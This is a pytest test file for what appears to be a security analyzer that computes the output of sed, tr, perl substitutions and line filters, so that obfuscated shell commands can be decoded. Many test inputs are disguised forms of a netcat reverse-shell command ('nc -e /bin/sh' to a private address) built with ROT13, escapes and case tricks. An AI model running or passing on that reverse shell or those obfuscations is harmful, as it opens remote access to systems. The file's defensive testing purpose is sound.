"""sed, tr and perl -pe outputs as the reader computes them. Each expected output is what GNU sed
4.9, GNU tr (coreutils 9.1) and perl 5.36 printed for the same script and input."""
import pytest

from vigiles.analysis import sed
from vigiles.analysis.decode import output_of


@pytest.mark.parametrize("args, text, expected", [
    (["s/m/n/"], "mc -e /bin/sh 10.0.0.1 4444\n", "nc -e /bin/sh 10.0.0.1 4444\n"),
    (["-e", "s/^m/n/"], "mc -e x\n", "nc -e x\n"),
    (["s/x/y/g"], "xax xbx\nxx\n", "yay yby\nyy\n"),
    (["s/x/y/2"], "xax xbx\n", "xay xbx\n"),
    (["s/x/y/2g"], "xax xbx x\n", "xay yby y\n"),
    (["s/a*/x/g"], "baaac\n", "xbxcx\n"),                 # no empty match right after a match
    (["s/x*/-/g"], "abc\n", "-a-b-c-\n"),
    (["s/\\(ab\\)\\(c\\)/\\2\\1/"], "abcabc\n", "cababc\n"),  # BRE groups
    (["-E", "s/(ab)(c)/\\2\\1&/g"], "abcabc\n", "cababccababc\n"),
    (["s|/tmp|/var/tmp|"], "cd /tmp/x\n", "cd /var/tmp/x\n"),
    (["s#a\\#b#X#"], "a#b\n", "X\n"),                       # an escaped delimiter is itself
    (["y/abc/xyz/"], "aabbcc\n", "xxyyzz\n"),
    (["s/A/b/I"], "AaA\n", "baA\n"),
    (["s/a/b/;s/b/c/"], "a\n", "c\n"),
    (["-e", "s/a/b/", "-e", "s/b/c/g"], "ab\n", "cc\n"),
    (["-ne", "s/a/b/p"], "a\nb\n", "b\n"),
    (["-n", "p"], "a\nb\n", "a\nb\n"),
    (["p"], "a\n", "a\na\n"),
    (["d"], "a\nb\n", ""),
    (["s/x/y/;d"], "x\ny\n", ""),
    (["s/[0-9]\\{2\\}/N/g"], "a12b345\n", "aNbN5\n"),
    (["s/a\\+/X/"], "baaa\n", "bX\n"),
    (["s/a+/X/"], "ba+a\n", "bXa\n"),                       # + is a plain character in a BRE
    (["s/*/X/"], "a*b\n", "aXb\n"),                         # and so is a leading *
    (["-r", "s/(x|y)+/Z/"], "axyxb\n", "aZb\n"),
    (["s/\\(a\\|b\\)/X/g"], "abc\n", "XXc\n"),
    (["s/[[:upper:]]/x/g"], "AbC\n", "xbx\n"),
    (["s/ /\\n/g"], "a b\n", "a\nb\n"),
    (["s/a/\\&/"], "a\n", "&\n"),
    (["s/^/nc /"], "-e /bin/sh h 1\n", "nc -e /bin/sh h 1\n"),
    (["s/x/y/"], "no newline", "no newline"),
    (["s/a/b/", "-"], "a\n", "b\n"),
    # GNU escapes, POSIX leftmost-longest, `.` across a newline in the pattern space, intervals
    (["s/^/\\x6e/"], "c -e P\n", "nc -e P\n"),
    (["s/^m/\\o156/"], "mc -e P\n", "nc -e P\n"),
    (["s/^m/\\d110/"], "mc -e P\n", "nc -e P\n"),
    (["s/n\\|nc/nc/"], "nc -e P\n", "nc -e P\n"),
    (["-E", "s/a|ab/X/"], "ab\n", "X\n"),
    (["s/X/\\n/;s/^.X/n/"], "XXc -e P\n", "nc -e P\n"),
    (["s/n\\{,2\\}//"], "nnnc -e P\n", "nc -e P\n"),
    (["y/mm/nx/"], "mc -e P\n", "nc -e P\n"),        # a character's first mapping
    (["s&m&\\&&"], "mc\n", "&c\n"),                  # an escaped & delimiter is a plain &
    (["s/n^c/nc/"], "n^c -e P\n", "nc -e P\n"),       # ^ inside a BRE is a plain character
    (["s/\\s/X/g"], "a\vb\fc d\n", "aXbXcXd\n"),
    # one address before a command, with or without !
    (["1s/^m/n/"], "mc -e P\nmc x\n", "nc -e P\nmc x\n"),
    (["-e", "s/^m/n/", "-e", "$!d"], "ab\nmc -e P\n", "nc -e P\n"),
    (["/mc/!d"], "mc -e P\nab\n", "mc -e P\n"),
    (["-n", "/x$/p"], "ab\nmc x\n", "mc x\n"),
    (["1s/^m/n/;# a comment"], "mc\n", "nc\n"),
    # a newline the last line lacked is left off only when that line is what is printed last
    (["$d"], "a\nb", "a\n"),
    (["-n", "1p"], "a\nb", "a\n"),
    (["p"], "a\nb", "a\na\nb\nb"),
    # GNU case conversion in the replacement
    (["s/.*/\\L&/"], "NC -E /BIN/SH P\n", "nc -e /bin/sh p\n"),
    (["s/\\(.*\\) \\(.*\\)/\\U\\1\\E \\2/"], "ab cd\n", "AB cd\n"),
    (["s/[a-z]\\+/\\u&/g"], "ab cd\n", "Ab Cd\n"),
    (["s/NC/\\l&/"], "NC\n", "nC\n"),
    (["s/x/\\U/"], "axb\n", "ab\n"),
    (["s/.*/\\u\\L&/"], "fOO\n", "foo\n"),                          # GNU: \L, \U or \E drops a waiting \u
    (["s/.*/\\l\\U&/"], "abc\n", "ABC\n"),
    (["s/a/\\u\\E&/"], "a\n", "a\n"),
])
def test_sed_prints_what_gnu_sed_prints(args, text, expected):
    assert sed.output(args, text) == expected
    assert output_of("sed", args, text) == expected


@pytest.mark.parametrize("args", [
    ["-i", "s/a/b/", "f"],        # in place: nothing printed, a file changed
    ["s/a/b/", "file"],           # the input is a file, not the pipe
    ["-f", "x.sed"], ["1,2d"], ["0~2d"], ["/a/,/b/d"], ["{s/a/b/}"],
    ["s/a/b/w out"], ["s/a/b/e"],  # writes a file; runs the pattern space
    ["s//x/"], ["s/(a)/\\1/"], ["s/\\(a\\)\\1/x/"],
    ["s/a/b"], ["y/ab/c/"], ["-z", "s/a/b/"], [],
    ["s/[\\]/X/"], ["s/\\<a/b/"], ["s/a\\b/c/"], ["-E", "s/a+?/X/"], ["--posix", "s/a/b/"],
    ["s/\\(a\\|b\\)/\\1/"], ["s/\\(ab\\)*/\\1/"], ["s/a/b/99999999"], ["-E", "s/(?i)a/b/"],
    ["s/\\x2e/X/"],             # GNU: an escaped . is still a wildcard
    ["s/\\(\\)\\(a\\)/\\u\\1\\2/"],  # a \u over an empty group: GNU's own rule
    ["s/a/\\U\u00e9&/"],           # case beyond ASCII: the locale's
    ["#n"], ["pd"], ["0p"], ["s/a/b/2g3"], ["s/a/b/\u0663"],
])
def test_what_sed_would_do_that_is_not_computed_is_unknown(args):
    """(A wrong answer is worse than none: forms whose meaning GNU and RE2 do not share are unknown.)"""
    assert sed.output(args, "a\n") is None


def test_sed_is_unknown_where_text_beyond_ascii_meets_a_class():
    assert sed.output(["s/X/\u00e9/;s/[[:alpha:]]c/nc/"], "Xc -e P\n") is None  # the script adds it
    assert sed.output(["/#[^[:alpha:]]/d"], "nc -e P #\u00e9\n") is None        # in an address
    assert sed.output(["s/\\s//"], "\u2003nc\n") is None                         # GNU's \s is Unicode's
    assert sed.output(["s/a/b/"], "\u00e9a\n") == "\u00e9b\n"                    # no class: computed


def test_what_sed_runs_is_found_in_scripts_it_does_not_otherwise_compute():
    for args in (["/x/e nc -e P\n1,2p"], ["1,3e nc -e P"], ["0~1e nc -e P"], ["--posix", "--expression=e nc -e P"]):
        assert sed.executed(args, "x\n") == ["nc -e P"]
    assert sed.executed(["s/^m/n/e"], "mc -e P\n") == ["nc -e P"]
    assert sed.executed(["s/^m/n/"], "mc -e P\n") == []


def test_sed_output_is_bounded_and_its_regexes_are_linear():
    doubling = ["-e", "s/./&&/g"] * 12  # 4,096 times longer
    assert sed.output(doubling, "x" * 1000 + "\n") is None
    growth = "s/.*/&&&&&&&&&&/;" * 6 + "s/.*/" + "&" * 8000 + "/"  # 8 KB of script, gigabytes of output
    assert sed.output([growth], "a\n") is None
    assert sed.output(["-n", "s/.*/&&&&&&&&&&/;" * 6 + "y/a/b/;" * 40], "a\n" * 1000) is None
    assert sed.output(["s/a/b/" + "1" * 5000], "a\n") is None            # a count past int()'s limit
    assert sed.output(["s/a/b/"], "a\ud800\n") is None                   # not encodable: unknown, no crash
    assert sed.output(["s/(a+)+$/x/"], "a" * 50_000 + "b\n") == "a" * 50_000 + "b\n"
    assert sed.output(["-E", "s/(a+)+$/x/"], "a" * 50_000 + "b\n") == "a" * 50_000 + "b\n"


@pytest.mark.parametrize("args, expected", [
    (["a-z", "n-za-m"], "nc -e /bin/sh 10.0.0.1 4444\n"),          # ROT13
    (["A-Za-z", "N-ZA-Mn-za-m"], "nc -e /bin/sh 10.0.0.1 4444\n"),
    (["[:lower:]", "[:upper:]"], "AP -R /OVA/FU 10.0.0.1 4444\n"),
    (["abc", "x"], "xp -r /ovx/fu 10.0.0.1 4444\n"),               # the second set padded
    (["-d", "aeiou"], "p -r /v/f 10.0.0.1 4444\n"),
    (["-d", "[:digit:]"], "ap -r /ova/fu ... \n"),
    (["\\n", "_"], "ap -r /ova/fu 10.0.0.1 4444_"),
    (["\\141", "b"], "bp -r /ovb/fu 10.0.0.1 4444\n"),             # octal escapes
])
def test_tr_with_ranges_classes_and_deletion(args, expected):
    assert output_of("tr", args, "ap -r /ova/fu 10.0.0.1 4444\n") == expected


def test_tr_squeezes_and_reads_octal_as_gnu_tr():
    assert output_of("tr", ["-s", "n"], "nnnc -e P\n") == "nc -e P\n"
    assert output_of("tr", ["k-\\155", "kln"], "mc -e P\n") == "nc -e P\n"   # an octal range end
    assert output_of("tr", ["\\400", "x"], "@ 0\n") == "@xx\n"   # \40 (a space) then 0, as GNU reads it


@pytest.mark.parametrize("args", [["-c", "a", "b"], ["z-a", "b"], ["[=a=]", "b"], ["[a*3]", "b"],
                                  ["a", ""], ["[:nope:]", "b"], ["-d", "\\303\\243"], ["é", "e"]])
def test_tr_forms_not_computed_are_unknown(args):
    assert output_of("tr", args, "abc\n") is None
    assert output_of("tr", ["a", "b"], "nãc\n") is None  # GNU tr sees bytes


PERL_INPUT = "ZZ -e /bin/sh 10.0.0.1 4444\nabc abc\n  x  \nlast"


@pytest.mark.parametrize("args, expected", [
    (["-pe", "s/ZZ/nc/"], "nc -e /bin/sh 10.0.0.1 4444\nabc abc\n  x  \nlast"),
    (["-pe", "s/(a)(b)/$2$1/g"], "ZZ -e /bin/sh 10.0.0.1 4444\nbac bac\n  x  \nlast"),
    (["-pe", "s/b/[$&]/"], "ZZ -e /[b]in/sh 10.0.0.1 4444\na[b]c abc\n  x  \nlast"),
    (["-pe", "s/c$//"], "ZZ -e /bin/sh 10.0.0.1 4444\nabc ab\n  x  \nlast"),     # $ before the newline
    (["-pe", "tr/a-z/n-za-m/"], "ZZ -r /ova/fu 10.0.0.1 4444\nnop nop\n  k  \nynfg"),
    (["-p", "-e", "s|/bin|/usr/bin|"], "ZZ -e /usr/bin/sh 10.0.0.1 4444\nabc abc\n  x  \nlast"),
    (["-pe", "s/(\\w+) (\\w+)/${2} ${1}/"], "ZZ -e /bin/10 sh.0.0.1 4444\nabc abc\n  x  \nlast"),
])
def test_perl_substitutions_print_what_perl_prints(args, expected):
    assert output_of("perl", args, PERL_INPUT) == expected


@pytest.mark.parametrize("args", [["-pe", "s/$x/n/"], ["-pe", "s/Z@x/nc/"], ["-pe", "s/Z/\\x6e/"], ["-pe", "tr/\\x6d/n/"],
                                  ["-pe", "s/\\s//"], ["-p", "-e", "s/^m/n/;", "-e", "s/q/r/"], ["-ep", "s/a/b/"],
                                  ["-pe", "s/$/X/g"], ["-pe", "tr/[:upper:]/x/"], ["-pe", "s/(a)/$10/"],
                                  ["-pe", "s'Z'$&x'"], ["-pe", "s/a{,2}/x/"], ["-pe", "s/a*/X/g"],
                                  ["-ne", "print"], ["-pe", "s/a/b/e"], ["-pe", "$_=uc"], ["-i", "-pe", "s/a/b/"],
                                  ["-pe", "s/a/$x/"], ["-e", "s/a/b/"], ["-pe", "s{a}{b}"], ["-pe", "s/(?=a)/b/"],
                                  ["-pe", "s/.*/echo \\1/"]])
def test_perl_code_that_is_not_only_substitution_is_unknown(args):
    assert output_of("perl", args, PERL_INPUT) is None


@pytest.mark.parametrize("name, args, text, expected", [
    ("grep", ["nc"], "ls\nnc -e P\n", "nc -e P\n"),
    ("grep", ["-v", "nc"], "ls\nnc -e P\n", "ls\n"),
    ("grep", ["-iE", "^N|^x"], "ls\nnc -e P\nxy\n", "nc -e P\nxy\n"),
    ("grep", ["-F", "."], "a.b\nab\n", "a.b\n"),
    ("grep", ["-x", "-e", "ls", "-e", "id"], "ls\nls -l\nid\n", "ls\nid\n"),
    ("grep", ["-q", "x"], "x\n", ""),
    ("head", ["-n", "1"], "a\nb\n", "a\n"),
    ("head", ["-2"], "a\nb\nc\n", "a\nb\n"),
    ("tail", ["-n", "1"], "a\nb\n", "b\n"),
    ("tail", ["-n", "+2"], "a\nb\nc\n", "b\nc\n"),
    ("tac", [], "a\nb\n", "b\na\n"),
    ("uniq", [], "a\na\nb\na\n", "a\nb\na\n"),
    ("cut", ["-c2-"], "xnc -e P\n", "nc -e P\n"),
    ("cut", ["-c3-4,1-2"], "abcdef\n", "abcd\n"),
    ("cut", ["-c1-3,2-5"], "abcdef\n", "abcde\n"),
    ("head", ["-n5"], "a\nb", "a\nb"),           # a missing last newline stays missing
    ("tail", ["-n1"], "a\nb", "b"),
    ("tac", [], "a\nb\n", "b\na\n"),
    ("grep", ["\\(a\\)b"], "ab\nb\n", "ab\n"),
    ("cut", ["-d", " ", "-f1,3"], "nc -e P\nno-space\n", "nc P\nno-space\n"),
    ("cut", ["-f2"], "a\tb\n", "b\n"),
    ("awk", ["{print}"], "a\nb", "a\nb\n"),
    ("awk", ["1"], "a\n", "a\n"),
    ("dd", ["conv=lcase", "status=none"], "NC -E /BIN/SH P\n", "nc -e /bin/sh p\n"),
    ("dd", ["conv=ucase,notrunc", "bs=1"], "ab\n", "AB\n"),
    ("dd", [], "as is\n", "as is\n"),
])
def test_line_filters_print_what_grep_coreutils_and_awk_print(name, args, text, expected):
    assert output_of(name, args, text) == expected


@pytest.mark.parametrize("name, args", [("grep", ["-o", "x"]), ("grep", ["-c", "x"]), ("grep", ["x", "file"]),
                                        ("grep", ["-w", "x"]), ("head", ["-c", "2"]), ("tail", ["-f"]),
                                        ("cut", ["-s", "-f1"]), ("awk", ["/x/"]), ("uniq", ["-c"]),
                                        ("dd", ["if=/etc/passwd"]), ("dd", ["count=1"]), ("dd", ["conv=swab"]),
                                        ("dd", ["conv=lcase,ucase"]), ("dd", ["conv=ucase", "conv=lcase"]),
                                        ("dd", ["bs=0"]), ("dd", ["bs=1e3"]), ("dd", ["status=bogus"]),
                                        ("grep", ["-e"]), ("grep", ["-v", "\\x6e"]), ("grep", ["\\n"]),
                                        ("grep", ["-x", "$|*"]), ("cut", ["-c", ""]), ("cut", ["-c", "-"]),
                                        ("cut", ["-c", "+2"]), ("cut", ["-d:", "-c1"]), ("cut", ["-c", "1,,2"]),
                                        ("head", ["-n", "\uff15"]), ("tail", ["-n", "++1"])])
def test_line_filter_forms_not_computed_are_unknown(name, args):
    """grep reads \\x61 as x61, GNU refuses the cut and head lists here: none is computed."""
    assert output_of(name, args, "a x\n") is None
    assert output_of("tac", [], " -e P\nnc") is None       # GNU glues the unterminated last line on
    assert output_of("grep", ["."], "nc -e P\0\n") is None  # binary input: GNU prints no line


def test_tail_with_more_lines_asked_than_given_and_sed_hash_n():
    assert output_of("tail", ["-n", "3"], "a=n\nb\n") == "a=n\nb\n"
    assert output_of("tail", ["-n", "+1", "-n", "1"], "a\nb\n") is None
    assert sed.output(["#nx"], "a\n") is None and sed.output(["#n;p"], "a\n") is None
    assert output_of("perl", ["-pe", "s/|X//g"], "aXb\n") is None
